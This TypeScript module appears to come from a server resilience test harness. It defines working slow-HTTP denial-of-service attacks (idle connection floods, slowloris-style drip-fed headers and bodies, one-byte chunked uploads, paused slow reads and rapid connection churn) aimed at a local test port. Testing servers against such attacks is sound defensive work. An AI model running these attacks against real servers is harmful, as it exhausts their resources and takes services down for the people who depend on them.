import { type Attack, aborted, every, gather, type MobOptions, type Victim } from "./attack.ts";

/* Attacks that cost the attacker nothing but patience. */

type Shape = Omit<MobOptions, "port">;

/** A mob that says `first` and then one of `drops` on each connection now and then. */
function dripping(
  name: string,
  about: string,
  count: number,
  first: string,
  drop: string | null,
): Attack {
  return {
    name,
    about,
    async run(victim: Victim, signal) {
      const shape: Shape = { count, opened: (socket) => void socket.write(first) };
      const mob = await gather({ port: victim.http, ...shape });
      await every(250, signal, () => {
        if (drop === null) return;
        for (const socket of mob.sockets) socket.write(drop);
      });
      mob.stop();
      return mob.tally.toString();
    },
  };
}

const silent: Attack = {
  name: "silent",
  about: "10,000 connections that never say a word",
  async run(victim, signal) {
    const mob = await gather({ port: victim.http, count: 10_000 });
    await aborted(signal);
    mob.stop();
    return mob.tally.toString();
  },
};

const slowRead: Attack = {
  name: "slow read",
  about: "200 downloads of 20 MB whose readers take nothing",
  async run(victim, signal) {
    const mob = await gather({
      port: victim.http,
      count: 200,
      opened(socket) {
        socket.write("GET /20000000 HTTP/1.1\r\nHost: bulk.test\r\n\r\n");
        socket.pause();
      },
    });
    await aborted(signal);
    mob.stop();
    return mob.tally.toString();
  },
};

const churn: Attack = {
  name: "churn",
  about: "connections that are broken off as soon as they stand, 400 a second",
  async run(victim, signal) {
    let count = 0;
    await every(50, signal, () => {
      for (let i = 0; i < 20; i++) {
        count++;
        void Bun.connect({
          hostname: "127.0.0.1",
          port: victim.http,
          socket: { open: (socket) => socket.terminate(), data() {}, error() {} },
        }).catch(() => null);
      }
    });
    return `${count} connections`;
  },
};

const HOST = "Host: site.test\r\n";
export const slowAttacks: readonly Attack[] = [
  silent,
  dripping(
    "slow headers",
    "500 heads that come four bytes a second",
    500,
    `GET /slow HTTP/1.1\r\n${HOST}X-Slow: `,
    "x",
  ),
  dripping(
    "slow body",
    "500 uploads that come four bytes a second",
    500,
    `POST /upload HTTP/1.1\r\n${HOST}Content-Length: 1000000\r\n\r\n`,
    "x",
  ),
  dripping(
    "slow chunks",
    "500 chunked uploads of one-byte chunks with long extensions",
    500,
    `POST /upload HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n`,
    `1;${"x".repeat(200)}\r\nx\r\n`,
  ),
  slowRead,
  churn,
];
